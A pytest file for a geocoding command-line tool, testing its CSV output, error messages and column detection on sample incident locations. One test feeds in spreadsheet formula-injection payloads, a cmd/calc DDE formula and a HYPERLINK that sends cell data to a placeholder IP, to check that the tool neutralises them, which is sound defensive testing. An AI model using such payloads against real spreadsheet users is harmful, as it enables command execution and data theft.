"""`python -m geo geocode`, run as a user runs it: a subprocess on real files, offline."""

from __future__ import annotations

import os
import subprocess
import sys

import pandas as pd
import pytest

from geo.settings import PROJECT_ROOT
from tests.support.geocoding import session_geocoder, session_settings


@pytest.fixture(scope="session")
def cache_env(tmp_path_factory) -> dict[str, str]:
    """Environment whose INCIDENT_MAP_CACHE holds the index this session built once."""
    session_geocoder(tmp_path_factory)
    env = dict(os.environ)
    env["INCIDENT_MAP_CACHE"] = str(session_settings(tmp_path_factory).cache_dir)
    return env


def run_cli(env, *args) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "geo", "geocode", *map(str, args)],
                          cwd=PROJECT_ROOT, env=env, capture_output=True, text=True,
                          timeout=120)


def test_adds_geocode_columns_and_keeps_every_input_column(cache_env, tmp_path):
    source = tmp_path / "incidents.csv"
    source.write_text("Date,place,country,Oblast\n"
                      "2025-08-08,Orlivka,UA,Odesa region\n"
                      "2025-08-08,Mykhailivka,,\n"
                      "2025-06-20,Kremenchuk refinery,UA,\n"
                      "2025-06-20,Кременчуг,,\n"
                      "2025-07-01,Nowhere-on-the-map xq,,\n", encoding="utf-8")
    target = tmp_path / "out.csv"
    done = run_cli(cache_env, source, "-o", target, "--place-column", "place",
                   "--country-column", "country", "--admin1-column", "Oblast", "--country", "UA")
    assert done.returncode == 0, done.stderr
    out = pd.read_csv(target, dtype=str, keep_default_na=False)
    assert list(out.columns[:4]) == ["Date", "place", "country", "Oblast"]
    for column in ("latitude", "longitude", "geocode_status", "geocode_precision",
                   "geocode_match", "geocode_candidates"):
        assert column in out.columns
    assert len(out) == 5
    assert out["geocode_status"].tolist() == ["exact", "ambiguous", "alias", "alias",
                                              "not_found"]
    assert (round(float(out.latitude[0]), 2), round(float(out.longitude[0]), 2)) == (45.32, 28.44)
    assert out["geocode_candidates"][1].count(" | ") == 5 and "more" in out["geocode_candidates"][1]
    assert out["geocode_match"][2] == "Kremenchuk oil refinery (site)"
    assert out["geocode_match"][3].startswith("Kremenchuk, Poltava Oblast")
    assert out["latitude"][4] == ""
    assert "5 rows" in done.stderr and "1 ambiguous" in done.stderr


def test_rows_with_coordinates_keep_them(cache_env, tmp_path):
    source = tmp_path / "mixed.csv"
    source.write_text("place;latitude;longitude\nKyiv;50.1;30.1\nKyiv;;\n", encoding="utf-8")
    target = tmp_path / "out.csv"
    assert run_cli(cache_env, source, "-o", target, "--place-column", "place").returncode == 0
    out = pd.read_csv(target)
    assert out["latitude"].tolist() == pytest.approx([50.1, 50.45466])
    assert out["geocode_status"].tolist() == ["given", "exact"]
    assert out["geocode_precision"].tolist() == ["unknown", "town"]   # not the name's "town"


def test_a_list_of_place_names_in_one_column_is_geocoded(cache_env, tmp_path):
    """A one-column file (what a list of places is) was refused as 'Found only one column'."""
    source = tmp_path / "places.csv"
    source.write_text('place\nOdesa\n"Chuhuiv, south of Kharkiv"\n', encoding="utf-8")
    target = tmp_path / "out.csv"
    done = run_cli(cache_env, source, "-o", target)
    assert done.returncode == 0, done.stderr
    out = pd.read_csv(target)
    assert out["place"].tolist() == ["Odesa", "Chuhuiv, south of Kharkiv"]
    assert out["geocode_status"].tolist() == ["exact", "exact"]    # near Kharkiv, not "South"
    assert out["geocode_match"][1].startswith("Chuhuyiv, Kharkiv Oblast")


def test_missing_column_names_the_column_and_the_ones_found(cache_env, tmp_path):
    source = tmp_path / "in.csv"
    source.write_text("Date,lat,lon\n2025-01-01,1,2\n", encoding="utf-8")
    done = run_cli(cache_env, source, "-o", tmp_path / "out.csv", "--place-column", "place")
    assert done.returncode != 0
    assert "Missing column 'place'" in done.stderr and "found: Date, lat, lon" in done.stderr
    assert not (tmp_path / "out.csv").exists()


@pytest.mark.parametrize(("content", "message"), [
    (None, "Cannot read"),
    (b"\x89PNG\r\n\x1a\n\x00\x00binary", "not a CSV text file"),
    (b"", "is empty"),
])
def test_unreadable_input_fails_with_a_clear_message(cache_env, tmp_path, content, message):
    source = tmp_path / "in.csv"
    if content is not None:
        source.write_bytes(content)
    done = run_cli(cache_env, source, "-o", tmp_path / "out.csv", "--place-column", "place")
    assert done.returncode != 0
    assert message in done.stderr and "Traceback" not in done.stderr


def test_unknown_default_country_is_refused(cache_env, tmp_path):
    source = tmp_path / "in.csv"
    source.write_text("place,x\nKyiv,1\n", encoding="utf-8")
    done = run_cli(cache_env, source, "-o", tmp_path / "out.csv", "--place-column", "place",
                   "--country", "Atlantis")
    assert done.returncode != 0 and "Unknown country 'Atlantis'" in done.stderr


def test_the_output_neutralises_spreadsheet_formulas(cache_env, tmp_path):
    source = tmp_path / "formulas.csv"
    source.write_text('place,note,=cmd|"/c calc"!A0\n'
                      'Odesa,"=HYPERLINK(""http://203.0.113.9/?x=""&A1,""click"")",x\n'
                      '@SUM(1+1)*cmd|\' /C calc\'!A0,+1+1,-2+3\n'
                      'Kyiv,-33.4,\tab\n', encoding="utf-8")
    target = tmp_path / "out.csv"
    done = run_cli(cache_env, source, "-o", target, "--place-column", "place")
    assert done.returncode == 0, done.stderr
    out = pd.read_csv(target, dtype=str, keep_default_na=False)
    assert out.columns[2] == "'=cmd|\"/c calc\"!A0"
    assert out["note"].tolist()[:2] == ["'=HYPERLINK(\"http://203.0.113.9/?x=\"&A1,\"click\")",
                                       "'+1+1"]
    assert out["place"][1].startswith("'@SUM")
    assert out["note"][2] == "-33.4"  # a plain number stays a number
    for cell in out.to_numpy().ravel():
        assert not cell or cell[0] not in "=+@\t" or cell.startswith("'"), cell


def test_columns_not_named_are_found_by_their_headers_and_said(cache_env, tmp_path):
    source = tmp_path / "acled_like.csv"
    source.write_text("event_date,location,admin1,admin2,country\n"
                      "2025-08-08,Sofiivka,Luhansk,Perevalskyi,Ukraine\n", encoding="utf-8")
    target = tmp_path / "out.csv"
    done = run_cli(cache_env, source, "-o", target)
    assert done.returncode == 0, done.stderr
    assert ("--place-column 'location', --country-column 'country', --admin1-column "
            "'admin1', --admin2-column 'admin2'") in done.stderr
    out = pd.read_csv(target, dtype=str, keep_default_na=False)
    assert "within 40 km of Perevalsk" in out["geocode_note"][0]
    named_only = run_cli(cache_env, source, "-o", target, "--no-guess")
    assert named_only.returncode == 2
    assert "No column of place names found" in named_only.stderr
    assert "--place-column" in named_only.stderr and "location" in named_only.stderr
